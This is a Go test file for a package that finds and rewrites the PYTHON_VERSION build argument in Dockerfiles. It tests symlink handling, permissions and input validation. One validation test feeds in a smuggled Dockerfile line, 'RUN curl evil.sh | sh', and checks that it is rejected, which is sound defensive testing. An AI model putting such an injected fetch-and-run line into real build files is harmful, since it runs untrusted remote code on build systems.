// SPDX-License-Identifier: MPL-2.0

package imagedef

import (
	"errors"
	"os"
	"path/filepath"
	"runtime"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

const sampleDockerfile = `ARG PYTHON_VERSION=3.12.3
FROM python:${PYTHON_VERSION}-slim AS build
ARG PYTHON_VERSION_SUFFIX=rc1

FROM python:${PYTHON_VERSION}-slim
  ARG PYTHON_VERSION=3.12.3
RUN echo "PYTHON_VERSION=3.12.3 stays in shell text"
`

func writeDockerfile(t *testing.T, content string) string {
	t.Helper()
	path := filepath.Join(t.TempDir(), "Dockerfile")
	require.NoError(t, os.WriteFile(path, []byte(content), 0o640))
	return path
}

func TestLocate(t *testing.T) {
	t.Parallel()

	path := writeDockerfile(t, sampleDockerfile)
	assert.Equal(t, Version("3.12.3"), Locate(path, DefaultMarkerKey))
	assert.Equal(t, Version("rc1"), Locate(path, "PYTHON_VERSION_SUFFIX"))
}

func TestLocate_ReturnsUnknown(t *testing.T) {
	t.Parallel()

	tests := []struct {
		name    string
		content string
		missing bool
		key     MarkerKey
	}{
		{name: "missing file", missing: true, key: DefaultMarkerKey},
		{name: "no marker", content: "FROM python:3.12-slim\n", key: DefaultMarkerKey},
		{name: "empty value", content: "ARG PYTHON_VERSION=\n", key: DefaultMarkerKey},
		{name: "commented marker", content: "# ARG PYTHON_VERSION=3.11.0\n", key: DefaultMarkerKey},
		{name: "invalid key", content: sampleDockerfile, key: "PYTHON VERSION"},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()

			path := filepath.Join(t.TempDir(), "Dockerfile")
			if !tt.missing {
				path = writeDockerfile(t, tt.content)
			}
			got := Locate(path, tt.key)
			assert.True(t, got.IsUnknown(), "Locate() = %q, want %q", got, Unknown)
		})
	}
}

func TestLookup_ReportsMissingMarker(t *testing.T) {
	t.Parallel()

	path := writeDockerfile(t, "FROM scratch\n")
	_, err := Lookup(path, DefaultMarkerKey)
	require.Error(t, err)
	assert.ErrorIs(t, err, ErrMarkerNotFound)
}

func TestUpdate_RoundTrip(t *testing.T) {
	t.Parallel()

	for _, v := range []Version{"3.12.4", "3.13.0", "4.0.0", "3.9.19", "10.20.30"} {
		t.Run(string(v), func(t *testing.T) {
			t.Parallel()

			path := writeDockerfile(t, sampleDockerfile)
			res, err := Update(path, DefaultMarkerKey, v)
			require.NoError(t, err)
			assert.Equal(t, Version("3.12.3"), res.Previous)
			assert.Equal(t, v, res.Current)
			assert.Equal(t, v, Locate(path, DefaultMarkerKey))
		})
	}
}

func TestUpdate_ReplacesAllOccurrences(t *testing.T) {
	t.Parallel()

	path := writeDockerfile(t, sampleDockerfile)
	res, err := Update(path, DefaultMarkerKey, "3.13.1")
	require.NoError(t, err)
	assert.Equal(t, 2, res.Replaced)

	data, err := os.ReadFile(path)
	require.NoError(t, err)
	want := `ARG PYTHON_VERSION=3.13.1
FROM python:${PYTHON_VERSION}-slim AS build
ARG PYTHON_VERSION_SUFFIX=rc1

FROM python:${PYTHON_VERSION}-slim
  ARG PYTHON_VERSION=3.13.1
RUN echo "PYTHON_VERSION=3.12.3 stays in shell text"
`
	assert.Equal(t, want, string(data))
}

func TestUpdate_EmptyVersionLeavesFileUntouched(t *testing.T) {
	t.Parallel()

	for _, v := range []Version{"", "   ", "\t\n"} {
		path := writeDockerfile(t, sampleDockerfile)
		before, err := os.Stat(path)
		require.NoError(t, err)

		_, err = Update(path, DefaultMarkerKey, v)
		require.Error(t, err)
		assert.ErrorIs(t, err, ErrEmptyVersion)

		var verr *ValidationError
		require.True(t, errors.As(err, &verr))
		assert.Equal(t, "version", verr.Field)

		data, err := os.ReadFile(path)
		require.NoError(t, err)
		assert.Equal(t, sampleDockerfile, string(data))
		after, err := os.Stat(path)
		require.NoError(t, err)
		assert.Equal(t, before.ModTime(), after.ModTime())
	}
}

func TestUpdate_RejectsMultiTokenVersion(t *testing.T) {
	t.Parallel()

	for _, v := range []Version{"3 13", "3.13.0\nRUN curl evil.sh | sh", "3.13.0\t1", "3.13.0\r1"} {
		path := writeDockerfile(t, sampleDockerfile)

		_, err := Update(path, DefaultMarkerKey, v)
		require.ErrorIs(t, err, ErrInvalidVersion, "version %q", v)

		data, err := os.ReadFile(path)
		require.NoError(t, err)
		assert.Equal(t, sampleDockerfile, string(data))
	}
}

func TestLocate_SkipsEmptyMarkers(t *testing.T) {
	t.Parallel()

	content := "ARG PYTHON_VERSION=\nFROM python:3.12-slim\nARG PYTHON_VERSION=3.12.7\n"
	path := writeDockerfile(t, content)
	assert.Equal(t, Version("3.12.7"), Locate(path, DefaultMarkerKey))

	res, err := Update(path, DefaultMarkerKey, "3.13.0")
	require.NoError(t, err)
	assert.Equal(t, Version("3.12.7"), res.Previous)
	assert.Equal(t, 2, res.Replaced)
	assert.Equal(t, Version("3.13.0"), Locate(path, DefaultMarkerKey))
}

func TestUpdate_FollowsSymlink(t *testing.T) {
	t.Parallel()

	if runtime.GOOS == "windows" {
		t.Skip("symlinks need elevated privileges on Windows")
	}

	target := writeDockerfile(t, sampleDockerfile)
	link := filepath.Join(t.TempDir(), "Dockerfile")
	require.NoError(t, os.Symlink(target, link))

	res, err := Update(link, DefaultMarkerKey, "3.13.2")
	require.NoError(t, err)
	assert.Equal(t, link, res.Path)

	info, err := os.Lstat(link)
	require.NoError(t, err)
	assert.NotZero(t, info.Mode()&os.ModeSymlink, "link must survive the update")
	assert.Equal(t, Version("3.13.2"), Locate(target, DefaultMarkerKey))

	entries, err := os.ReadDir(filepath.Dir(target))
	require.NoError(t, err)
	assert.Len(t, entries, 1, "no temporary files left next to the target")
}

func TestUpdate_MissingMarker(t *testing.T) {
	t.Parallel()

	content := "FROM python:3.12-slim\n"
	path := writeDockerfile(t, content)
	_, err := Update(path, DefaultMarkerKey, "3.13.0")
	require.ErrorIs(t, err, ErrMarkerNotFound)

	data, err := os.ReadFile(path)
	require.NoError(t, err)
	assert.Equal(t, content, string(data))
}

func TestUpdate_InvalidKey(t *testing.T) {
	t.Parallel()

	path := writeDockerfile(t, sampleDockerfile)
	_, err := Update(path, "PYTHON-VERSION", "3.13.0")
	assert.ErrorIs(t, err, ErrInvalidMarkerKey)
}

func TestUpdate_TrimsVersion(t *testing.T) {
	t.Parallel()

	path := writeDockerfile(t, sampleDockerfile)
	_, err := Update(path, DefaultMarkerKey, " 3.12.5\n")
	require.NoError(t, err)
	assert.Equal(t, Version("3.12.5"), Locate(path, DefaultMarkerKey))
}

func TestUpdate_PreservesPermissionsAndLeavesNoTempFiles(t *testing.T) {
	t.Parallel()

	path := writeDockerfile(t, sampleDockerfile)
	_, err := Update(path, DefaultMarkerKey, "3.12.9")
	require.NoError(t, err)

	if runtime.GOOS != "windows" {
		info, err := os.Stat(path)
		require.NoError(t, err)
		assert.Equal(t, os.FileMode(0o640), info.Mode().Perm())
	}

	entries, err := os.ReadDir(filepath.Dir(path))
	require.NoError(t, err)
	require.Len(t, entries, 1)
	assert.Equal(t, "Dockerfile", entries[0].Name())
}

func TestChecksum_IsSet(t *testing.T) {
	t.Parallel()

	assert.False(t, Checksum("").IsSet())
	assert.False(t, Checksum("  ").IsSet())
	assert.True(t, Checksum("c1a0ec3b").IsSet())
}
